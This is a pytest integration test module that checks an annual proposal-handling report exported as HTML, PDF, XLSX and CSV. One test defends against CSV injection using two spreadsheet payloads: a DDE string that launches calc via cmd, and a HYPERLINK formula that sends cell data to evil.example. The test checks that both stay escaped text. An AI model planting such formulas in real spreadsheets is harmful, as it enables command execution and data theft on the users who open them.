"""The annual report (通报) of a planted session, in-process with real Kafka, on SQLite and
PostgreSQL: HTML with the counts, one-decimal percentages and three SVG charts; a PDF that
parses and holds the text; an XLSX and a CSV with the planted numbers; and the bad requests.

The planting helpers are a minimal copy of test_statistics.py's (the test modules are imported
with importlib mode and cannot import each other)."""

import asyncio
import csv
import io
import os
import time
import uuid
from collections import Counter
from collections.abc import AsyncIterator, Callable
from contextlib import AbstractAsyncContextManager
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from typing import Any
from urllib.parse import quote
from zoneinfo import ZoneInfo

import httpx
import pytest
from contract_events import ContractEvent, contract_event
from fastapi import FastAPI
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlmodel import col, func, select

from devstack.kafka import KafkaBroker
from devstack.keys import DevKeys
from devstack.topics import publish
from evaluation_service.models import Evaluation, Rating
from servicekit.db import utcnow
from servicekit.events import EventEnvelope
from servicekit.inbox import InboxMessage
from servicekit.runtime import service_runtime

pytestmark = pytest.mark.integration

Serve = Callable[[FastAPI], AbstractAsyncContextManager[httpx.AsyncClient]]
SESSION = "s-16-3"
UNIT_NAMES = {"u1": "区发改局", "u2": "区住建局", "u3": "区教育局", "u9": "@SUM(1+1)*cmd|' /C calc'!A0"}
BODY_NAME, SESSION_NAME = "政协江岸区委员会", "十六届三次会议"
FORMAL_NAME = "政协江岸区第十六届委员会第三次会议"  # from the body's kind and the term and meeting numbers
NUMBER_PREFIX = {
    "individual": "个",
    "joint": "联",
    "group": "集",
    "plenary": "建议案",
    "suggestion": "建",
    "motion": "议",
}
I1_TITLE, I4_TITLE = "关于优化营商环境的建议", "关于推进老旧小区改造的建议案"


@dataclass
class Year:
    body: str
    named: bool = True  # the proposal events carry the body's and session's names (older ones do not)
    numbered: bool = True  # and the body's kind and the term and meeting numbers (added later)
    body_name: str = BODY_NAME
    body_kind: str = "cppcc"
    ids: dict[str, str] = field(default_factory=lambda: {f"i{n}": str(uuid.uuid4()) for n in range(1, 10)})
    events: list[tuple[str, EventEnvelope]] = field(default_factory=list)
    ratings: list[Evaluation] = field(default_factory=list)
    numbers: Counter[str] = field(default_factory=Counter)  # the last 案号 of each kind's series

    def names(self) -> dict[str, Any]:
        if not self.named:
            return {}
        numbers = {"body_kind": self.body_kind, "session_term": 16, "session_meeting": 3} if self.numbered else {}
        return {"body_name": self.body_name, "session_name": SESSION_NAME, **numbers}

    def ref(self, name: str, kind: str) -> dict[str, str]:
        return {"proposal_id": self.ids[name], "body_id": self.body, "session_id": SESSION, "kind": kind}

    def p(self, name: str, event: ContractEvent) -> None:
        self.events.append(("proposal", event.envelope(subject=self.ids[name])))

    def a(self, name: str, event: ContractEvent) -> None:
        self.events.append(("assignment", event.envelope(subject=self.ids[name])))

    def submitted(self, name: str, kind: str, category: str | None, title: str | None = None) -> dict[str, str]:
        ref = self.ref(name, kind)
        self.p(
            name,
            contract_event(
                "proposal.submitted.v1",
                **ref, title=title or f"关于事项{name}的建议", category=category, lead_proposer="x",
                submitted_at=utcnow(), **self.names(),
            ),
        )  # fmt: skip
        return ref

    def registered(
        self, name: str, kind: str, category: str | None, *, title: str | None = None, key: bool = False
    ) -> str:
        """proposal.registered with the next number of the kind's series; returns its label."""
        self.numbers[kind] += 1
        label = f"{NUMBER_PREFIX[kind]}{self.numbers[kind]:04d}"
        self.p(
            name,
            contract_event(
                "proposal.registered.v1",
                **self.ref(name, kind), number=self.numbers[kind], number_label=label,
                title=title or f"关于事项{name}的建议", content="c", category_id=None, category=category,
                lead_member_id=f"m-{name}", lead_proposer="x", cosigner_member_ids=[], group_name=None, key=key,
                registered_at=utcnow(), **self.names(),
            ),
        )  # fmt: skip
        return label

    def handled(
        self, name: str, kind: str, category: str | None, unit: str, outcome: str | None = None, *,
        title: str | None = None,
        key: bool = False, on_time: bool = True, contacted: bool = True, rating: Rating | None = None,
    ) -> None:  # fmt: skip
        """Registered, assigned to ``unit`` as lead, replied with ``outcome`` and rated."""
        self.submitted(name, kind, category, title)
        self.registered(name, kind, category, title=title, key=key)
        common = {"proposal_id": self.ids[name], "body_id": self.body}
        self.a(
            name,
            contract_event(
                "assignment.created.v1",
                **common, assignment_id=f"{name}-{unit}", unit_id=unit, unit_name=UNIT_NAMES[unit], role="lead",
                round=1, due_date=date(2026, 6, 1), assigned_at=utcnow(),
            ),
        )  # fmt: skip
        if outcome is None:
            return
        self.a(
            name,
            contract_event(
                "assignment.replied.v1",
                **common, reply_id=str(uuid.uuid4()), assignment_id=f"{name}-{unit}", unit_id=unit,
                unit_name=UNIT_NAMES[unit], role="lead", round=1, outcome=outcome, publishable=True, on_time=on_time,
                contacted=contacted, replied_at=utcnow(),
            ),
        )  # fmt: skip
        self.a(
            name,
            contract_event(
                "handling.completed.v1",
                **common,
                round=1,
                outcome=outcome,
                on_time=on_time,
                completed_at=utcnow(),
                outcomes={unit: outcome},
            ),
        )
        if rating is not None:
            self.ratings.append(
                Evaluation(
                    proposal_id=self.ids[name], body_id=self.body, round=1, unit_id=unit, member_id=f"m-{name}",
                    contact=Rating.satisfied, attitude=Rating.satisfied, result=rating,
                )
            )  # fmt: skip


def plant(body: str) -> Year:
    """Nine items filed: eight 提案 and one 建议案 (i4, plenary, key, C), which is not a 提案 and
    is counted on its own line. Of the 提案 seven registered (key: i1; collective: i3 group),
    six replied: A 4 (66.7%), B 1 (16.7%), C 0 (0%), D 1 (16.7%); reply rate 6/7 85.7%, on
    time 5/7 71.4%; ratings 4 of 6 satisfied or basically satisfied, 66.7%. Units (over every
    item): u1 i1 i3 i7, u2 i2 i5 i8 (no reply yet), u3 i4 i6; scores (0.3/0.4/0.1/0.2) u2 90.0,
    u1 71.7, u3 62.5. The events name the body and session (BODY_NAME, SESSION_NAME, cppcc,
    term 16, meeting 3) except i9's, the last one; i1 is 个0001 (I1_TITLE), i4 建议案0001
    (I4_TITLE)."""
    y = Year(body)
    y.handled("i1", "individual", "经济发展", "u1", "A", title=I1_TITLE, key=True, rating=Rating.satisfied)
    y.handled("i2", "joint", "城市建设", "u2", "A", rating=Rating.basically_satisfied)
    y.handled("i3", "group", "科教文卫", "u1", "B", on_time=False, contacted=False, rating=Rating.unsatisfied)
    y.handled("i4", "plenary", "城市建设", "u3", "C", title=I4_TITLE, key=True, rating=Rating.satisfied)
    y.handled("i5", "individual", "经济发展", "u2", "A", rating=Rating.satisfied)
    y.handled("i6", "individual", "社会法制", "u3", "D", contacted=False, rating=Rating.unsatisfied)
    y.handled("i7", "individual", "经济发展", "u1", "A", rating=Rating.satisfied)
    y.handled("i8", "individual", "经济发展", "u2")
    y.named = False  # an event without names, the last one: it does not erase the names known
    ref = y.submitted("i9", "individual", "科教文卫")
    y.p("i9", contract_event("proposal.declined.v1", **ref, reason="r", note="n", referral="", declined_at=utcnow()))
    return y


class Scene:
    def __init__(self, client: httpx.AsyncClient, app: FastAPI, keys: DevKeys, bootstrap: str, namespace: str) -> None:
        self.client, self.app, self.keys, self.bootstrap, self.namespace = client, app, keys, bootstrap, namespace

    def staff(self, body: str, role: str = "staff") -> dict[str, str]:
        return self.keys.headers(role, subject=role, body_id=body)

    async def plant(self, year: Year) -> None:
        for topic in ("proposal", "assignment"):
            await publish(self.bootstrap, f"{self.namespace}{topic}.events", [e for t, e in year.events if t == topic])
        ids = {e.id for _, e in year.events}
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            async with service_runtime(self.app).database.session(read_only=True) as session:
                query = select(func.count()).select_from(InboxMessage).where(col(InboxMessage.event_id).in_(ids))
                if (await session.exec(query)).one() == len(ids):
                    break
            await asyncio.sleep(0.1)
        else:
            raise AssertionError("the evaluation service never consumed the planted events")
        async with service_runtime(self.app).database.session() as session:
            session.add_all(year.ratings)
            await session.commit()

    async def report(self, fmt: str, body: str = "body-1", role: str = "staff") -> httpx.Response:
        params = {"body_id": body, "session_id": SESSION, "format": fmt}
        response = await self.client.get("/reports/annual", params=params, headers=self.staff(body, role))
        assert response.status_code == 200, response.text
        return response


@pytest.fixture
async def scene(
    evaluation: tuple[FastAPI, httpx.AsyncClient], kafka: KafkaBroker, namespace: str, dev_keys: DevKeys
) -> AsyncIterator[Scene]:
    app, client = evaluation
    s = Scene(client, app, dev_keys, kafka.bootstrap, namespace)
    await s.plant(plant("body-1"))
    yield s


async def save_sample(name: str, content: bytes) -> None:
    """With REPORT_SAMPLE_DIR set, the rendered report is kept there to look at."""
    if folder := os.environ.get("REPORT_SAMPLE_DIR"):
        await asyncio.to_thread(Path(folder).mkdir, parents=True, exist_ok=True)
        await asyncio.to_thread((Path(folder) / name).write_bytes, content)


def problem(response: httpx.Response, status: int, code: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/problem+json"
    body: dict[str, Any] = response.json()
    assert body["code"] == code, body
    return body


def disposition(fmt: str, kind: str = "attachment") -> str:
    name = quote(f"提案办理情况通报-{SESSION}.{fmt}", safe="")
    return f"{kind}; filename=\"annual-report-{SESSION}.{fmt}\"; filename*=UTF-8''{name}"


YEAR = utcnow().astimezone(ZoneInfo("Asia/Shanghai")).year  # the year of the planted events
OPENING = (
    f"{YEAR}年，{FORMAL_NAME}共收到提案8件，立案7件，其中：重点提案1件，集体提案1件；"
    "按类型分：个人提案5件、联名提案1件、集体提案1件；"
    "按类别分：经济发展类4件、城市建设类1件、科教文卫类1件、社会法制类1件。另有建议案1件。"
)
OUTCOMES = (
    "在已办复的6件提案中，已解决或基本解决的（A类）4件，占66.7%；正在解决或列入计划解决的（B类）1件，占16.7%；"
    "因条件限制暂时不能解决的（C类）0件，占0%；留作参考的（D类）1件，占16.7%。"
)
# 序号, 承办单位, 交办, 应答复, 已答复, 按时, 按时办复率, 办前沟通率, 测评数, 满意, 满意率, A, B, C, D, 超期, 得分
UNIT_ROWS = [
    [1, "区住建局", 3, 3, 2, 2, "66.7%", "100%", 2, 2, "100%", 2, 0, 0, 0, 0, 90.0],
    [2, "区发改局", 3, 3, 3, 2, "66.7%", "66.7%", 3, 2, "66.7%", 2, 1, 0, 0, 0, 71.7],
    [3, "区教育局", 2, 2, 2, 2, "100%", "50%", 2, 1, "50%", 0, 0, 1, 1, 0, 62.5],
]


async def test_html_report(scene: Scene) -> None:
    response = await scene.report("html")
    assert response.headers["content-type"] == "text/html; charset=utf-8"
    assert response.headers["content-disposition"] == disposition("html", "inline")
    page = response.text
    await save_sample("report_sample.html", response.content)
    # the title names the body and session; i9's later event without names erased neither
    assert f"<h1>关于{FORMAL_NAME}提案办理情况的通报</h1>" in page
    assert "会议编号" not in page and "未记录届次会议名称" not in page
    assert OPENING in page and "不予立案1件" in page and "立案率87.5%" in page
    assert OUTCOMES in page
    assert "已办复6件，办复率85.7%，按时办复率71.4%" in page
    assert "满意率66.7%" in page and "首次答复满意率66.7%" in page
    # key 提案 by number, with title, lead units and outcome; the 建议案 in a section of its own
    assert "立案的重点提案1件" in page
    assert (
        f"1. （个0001）《{I1_TITLE}》，经济发展类个人提案，主办单位：区发改局，办理结果：A类（已解决或基本解决）。"
        in page
    )
    assert "建议案办理情况" in page and "本次会议建议案1件" in page
    assert (
        f"1. （建议案0001）《{I4_TITLE}》，城市建设类建议案，主办单位：区教育局，"
        "办理结果：C类（因条件限制暂时不能解决）。"
    ) in page
    assert page.index("建议案办理情况") > page.index("重点提案办理情况")
    # the sections are numbered in order, the 建议案's among them
    assert "<h2>三、重点提案办理情况</h2>" in page and "<h2>四、建议案办理情况</h2>" in page
    assert "<h2>五、承办单位办理情况</h2>" in page and "<h2>六、说明</h2>" in page
    # the unit table, in score order, with the weights
    assert page.index("区住建局") < page.index("区发改局</td>") < page.index("区教育局</td>")
    assert "<td>90.0</td>" in page and "<td>71.7</td>" in page and "<td>62.5</td>" in page
    assert "按时办复率0.3、满意率0.4、办前沟通率0.1、办理结果0.2" in page
    assert page.count("<svg") >= 3 and "办理结果分布" in page and "承办单位综合得分" in page
    assert "<script" not in page  # no external chart scripts


async def test_pdf_report(scene: Scene) -> None:
    response = await scene.report("pdf", role="leader")
    assert response.headers["content-type"] == "application/pdf"
    assert response.headers["content-disposition"] == disposition("pdf")
    assert response.content.startswith(b"%PDF")
    # the Chinese font is embedded (./dev installs it), so every reader shows the text
    assert b"/FontFile2" in response.content
    await save_sample("report_sample.pdf", response.content)
    reader = PdfReader(io.BytesIO(response.content))
    text = "".join(page.extract_text() for page in reader.pages).replace(" ", "").replace("\n", "")
    assert f"关于{FORMAL_NAME}提案办理情况的通报" in text and I1_TITLE in text
    for figure in ("收到提案8件", "立案7件", "另有建议案1件", "66.7%", "16.7%", "85.7%", "71.4%", "区住建局", "90.0"):
        assert figure in text, figure


async def test_xlsx_report(scene: Scene) -> None:
    response = await scene.report("xlsx")
    assert response.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["content-disposition"] == disposition("xlsx")
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["总体情况", "承办单位", "类别与类型"]
    overall = {row[0]: row[1] for row in book["总体情况"].iter_rows(min_row=2, values_only=True) if row[0]}
    assert overall["收到提案（件）"] == 8 and overall["立案（件）"] == 7 and overall["重点提案（件）"] == 1
    assert overall["集体提案（件）"] == 1 and overall["不予立案（件）"] == 1 and overall["建议案（件）"] == 1
    assert overall["办复率"] == "85.7%" and overall["满意率"] == "66.7%" and overall["按时办复率"] == "71.4%"
    assert overall["A类 已解决或基本解决（件）"] == 4 and overall["A类 占比"] == "66.7%"
    assert overall["D类 占比"] == "16.7%" and overall["C类 占比"] == "0%"
    assert overall["会议"] == SESSION and overall["会议名称"] == FORMAL_NAME and overall["年度"] == f"{YEAR}年"
    units = [list(row) for row in book["承办单位"].iter_rows(min_row=2, max_row=4, values_only=True)]
    assert units == UNIT_ROWS
    breakdown = {(r[0], r[1]): (r[2], r[3]) for r in book["类别与类型"].iter_rows(min_row=2, values_only=True)}
    assert breakdown[("类别", "经济发展")] == (4, 4) and breakdown[("类别", "科教文卫")] == (2, 1)
    assert breakdown[("类型", "个人提案")] == (6, 5) and breakdown[("类型", "建议案")] == (1, 1)


async def test_csv_report(scene: Scene) -> None:
    response = await scene.report("csv")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == disposition("csv")
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert (
        rows[0][:3] == ["序号", "承办单位", "交办件数"] and rows[0][-1] == "综合得分(按时0.3/满意0.4/沟通0.1/结果0.2)"
    )
    assert rows[1:] == [[str(v) for v in row] for row in UNIT_ROWS]


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


async def test_names_that_look_like_formulas_stay_text_in_xlsx_and_csv(scene: Scene) -> None:
    """OWASP CSV injection: a category or unit named like a formula reaches the tables as text."""
    y = Year("body-evil")
    y.handled("i1", "individual", FORMULA, "u9", "A", rating=Rating.satisfied)
    y.handled("i2", "individual", "+1-1", "u1", "A", rating=Rating.satisfied)
    y.handled("i3", "individual", "\t-2", "u1", "B", rating=Rating.satisfied)
    await scene.plant(y)
    starts = ("=", "+", "-", "@", "\t", "\r")

    book = load_workbook(io.BytesIO((await scene.report("xlsx", body="body-evil")).content))
    texts = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c.coordinate for c in texts if c.data_type == "f" or c.value.startswith(starts)]
    names = {c.value for c in texts}
    assert {"'" + FORMULA, "'+1-1", "'\t-2", "'" + UNIT_NAMES["u9"]} <= names

    answer = await scene.report("csv", body="body-evil")
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert not [v for row in rows for v in row if v.startswith(starts)]
    assert "'" + UNIT_NAMES["u9"] in [row[1] for row in rows[1:]]


async def test_bad_requests_for_the_report(scene: Scene) -> None:
    s, c = scene, scene.client
    params = {"body_id": "body-1", "session_id": SESSION}
    bad = problem(await c.get("/reports/annual", params={**params, "format": "docx"}, headers=s.staff("body-1")), 422, "validation_failed")  # fmt: skip
    assert [e["field"] for e in bad["errors"]] == ["format"]
    missing = problem(await c.get("/reports/annual", params={"session_id": SESSION}, headers=s.staff("body-1")), 422, "validation_failed")  # fmt: skip
    assert [e["field"] for e in missing["errors"]] == ["body_id"]
    unknown = {"body_id": "body-1", "session_id": "s-none"}
    problem(await c.get("/reports/annual", params=unknown, headers=s.staff("body-1")), 404, "not_found")
    member = s.keys.headers("member", subject="m", body_id="body-1", member_id="m-i1")
    problem(await c.get("/reports/annual", params=params, headers=member), 403, "forbidden")
    problem(await c.get("/reports/annual", params=params, headers=s.staff("body-2")), 403, "forbidden")
    unit = s.keys.headers("unit_staff", subject="u", unit_id="u1")
    problem(await c.get("/reports/annual", params=params, headers=unit), 403, "forbidden")
    problem(await c.get("/reports/annual", params=params), 401, "unauthorized")


async def test_key_items_name_separate_units_and_older_events_keep_the_neutral_title(scene: Scene) -> None:
    """A session whose events predate the names: the neutral title with the session id, explained.
    Its key items: one handled by two separate units (分办) and not replied yet, one not assigned;
    i1's registration arrives before its submission and its title still wins."""
    y = Year("body-2", named=False)
    y.registered("i1", "joint", "城市建设", title="关于破解停车难问题的建议", key=True)
    y.submitted("i1", "joint", "城市建设", title="停车难（草稿）")
    for unit in ("u2", "u1"):
        y.a(
            "i1",
            contract_event(
                "assignment.created.v1",
                proposal_id=y.ids["i1"], body_id=y.body, assignment_id=f"i1-{unit}", unit_id=unit,
                unit_name=UNIT_NAMES[unit], role="separate", round=1, due_date=date(2026, 6, 1), assigned_at=utcnow(),
            ),
        )  # fmt: skip
    y.submitted("i2", "individual", "社会法制")
    y.registered("i2", "individual", "社会法制", title="关于加强社区养老服务的建议", key=True)
    await scene.plant(y)
    page = (await scene.report("html", body="body-2")).text
    assert "<h1>关于提案办理情况的通报</h1>" in page and f"（会议编号：{SESSION}）" in page
    assert "未记录届次会议名称" in page  # the neutral title is explained
    assert "1. （个0001）《关于加强社区养老服务的建议》，社会法制类个人提案，尚未交办，办理结果：尚未办复。" in page
    assert (
        "2. （联0001）《关于破解停车难问题的建议》，城市建设类联名提案，分办单位：区发改局、区住建局，"
        "办理结果：尚未办复。"
    ) in page
    assert "停车难（草稿）" not in page
    assert "<h2>四、承办单位办理情况</h2>" in page and "建议案办理情况" not in page  # no 建议案 this session


async def test_names_without_numbers_are_kept_as_held_and_uncategorised_items_are_未分类(scene: Scene) -> None:
    """Events named before the kind and numbers were added: the names as the proposal service
    holds them. An item without a category is 未分类, never 未分类类."""
    y = Year("body-3", numbered=False)
    y.handled("i1", "individual", None, "u1", "A", title="关于无类别事项的建议", key=True, rating=Rating.satisfied)
    y.handled("i2", "individual", "经济发展", "u1", "A", rating=Rating.satisfied)
    await scene.plant(y)
    page = (await scene.report("html", body="body-3")).text
    assert f"<h1>关于{BODY_NAME}{SESSION_NAME}提案办理情况的通报</h1>" in page
    assert "按类别分：经济发展类1件、未分类1件。" in page and "未分类类" not in page
    assert "1. （个0001）《关于无类别事项的建议》，未分类个人提案，" in page
    assert "（A类）2件，占100%" in page and "100.0%" not in page and "办复率100%" in page


async def test_a_congress_session_is_named_in_the_formal_style(scene: Scene) -> None:
    y = Year("body-npc", body_name="武汉市人民代表大会", body_kind="npc")
    y.handled("i1", "suggestion", "城市建设", "u1", "A", rating=Rating.satisfied)
    y.handled("i2", "motion", "社会法制", "u2", "B")
    await scene.plant(y)
    page = (await scene.report("html", body="body-npc")).text
    assert "<h1>关于武汉市第十六届人民代表大会第三次会议提案办理情况的通报</h1>" in page
    # the 议案 is its own line; the figures are the 建议's
    assert "立案1件" in page and "另有议案1件。" in page and "在已办复的1件提案中" in page
    assert "议案办理情况" in page


async def test_the_category_breakdown_can_be_over_the_other_proposals(scene: Scene) -> None:
    """Seed 001: 116 提案, 5 key and 29 collective, 其他提案82件 by category. The body's rule
    (evaluation rules, If-Match) chooses; key and collective items, and 建议案, leave the breakdown."""
    y = Year("body-4")
    y.handled("i1", "individual", "经济发展", "u1", "A", key=True)
    y.handled("i2", "group", "城市建设", "u1", "A")
    y.handled("i3", "individual", "科教文卫", "u1", "A")
    y.handled("i4", "joint", "科教文卫", "u2", "B")
    y.handled("i5", "plenary", "社会法制", "u2", "A")
    await scene.plant(y)
    page = (await scene.report("html", body="body-4")).text
    assert "立案4件，其中：重点提案1件，集体提案1件；" in page
    assert "按类别分：经济发展类1件、城市建设类1件、科教文卫类2件。另有建议案1件。" in page

    url = "/bodies/body-4/evaluation-rules"
    current = await scene.client.get(url)
    assert current.json()["category_breakdown"] == "all"
    rules = {**current.json(), "category_breakdown": "other"}
    del rules["body_id"]
    stale = await scene.client.put(url, json=rules, headers={**scene.staff("body-4"), "If-Match": 'W/"stale"'})
    problem(stale, 412, "precondition_failed")
    bad = await scene.client.put(url, json={**rules, "category_breakdown": "some"}, headers=scene.staff("body-4"))
    assert [e["field"] for e in problem(bad, 422, "validation_failed")["errors"]] == ["category_breakdown"]
    ok = await scene.client.put(url, json=rules, headers={**scene.staff("body-4"), "If-Match": current.headers["ETag"]})
    assert ok.status_code == 200, ok.text
    page = (await scene.report("html", body="body-4")).text
    assert "其他提案2件，按类别分：科教文卫类2件。另有建议案1件。" in page


async def test_the_outcome_classes_are_worded_as_the_body_configured_them(scene: Scene) -> None:
    """Seed 001 words three classes its own way ("反映问题已解决的105件，占比90.5%"): the body's
    handling rules (assignment.rules_set) word the report's sentences, labels, tables and the
    statistics; a class it does not use (D) is not written; an older setting arriving late
    changes nothing."""
    seed001 = [
        {"code": "A", "label": "已解决", "sentence": "反映问题已解决的{count}件，占比{percent}"},
        {"code": "B", "label": "部分解决并持续跟踪", "sentence": "因条件限制暂时只能解决部分问题并持续跟踪的{count}件，占比{percent}"},
        {"code": "C", "label": "暂时无法解决", "sentence": "因不具备办理条件暂时无法解决的{count}件，占比{percent}"},
    ]  # fmt: skip
    y = Year("body-wording")
    y.handled("i1", "individual", "经济发展", "u1", "A", key=True, title=I1_TITLE, rating=Rating.satisfied)
    y.handled("i2", "individual", "城市建设", "u1", "A", rating=Rating.satisfied)
    y.handled("i3", "joint", "科教文卫", "u2", "B", rating=Rating.satisfied)
    newer, older = utcnow(), utcnow().replace(year=2020)
    for when, labels in ((newer, seed001), (older, [])):
        y.events.append(
            (
                "assignment",
                contract_event(
                    "assignment.rules_set.v1",
                    body_id="body-wording", kind="*", outcome_classes=["A", "B", "C"],
                    outcome_labels=labels, set_at=when,
                ).envelope(subject="body-wording"),
            )
        )  # fmt: skip
    await scene.plant(y)
    page = (await scene.report("html", body="body-wording")).text
    assert (
        "在已办复的3件提案中，反映问题已解决的2件，占比66.7%；因条件限制暂时只能解决部分问题并持续跟踪的1件，占比33.3%；"
        "因不具备办理条件暂时无法解决的0件，占比0%。"
    ) in page
    assert "（D类）" not in page and "已解决或基本解决" not in page and "留作参考" not in page
    assert f"1. （个0001）《{I1_TITLE}》，经济发展类个人提案，主办单位：区发改局，办理结果：A类（已解决）。" in page
    book = load_workbook(io.BytesIO((await scene.report("xlsx", body="body-wording")).content))
    cells = {r[0]: r[1] for r in book["总体情况"].iter_rows(values_only=True) if r and r[0]}
    assert cells["A类 已解决（件）"] == 2 and cells["B类 部分解决并持续跟踪（件）"] == 1
    stats = (
        await scene.client.get(
            "/statistics",
            params={"body_id": "body-wording", "session_id": SESSION},
            headers=scene.staff("body-wording"),
        )
    ).json()
    assert stats["outcome_labels"] == {"A": "已解决", "B": "部分解决并持续跟踪", "C": "暂时无法解决"}
    assert list(stats["outcomes"]) == ["A", "B", "C"]
    # a body that set nothing keeps the standard wording
    assert OUTCOMES in (await scene.report("html")).text
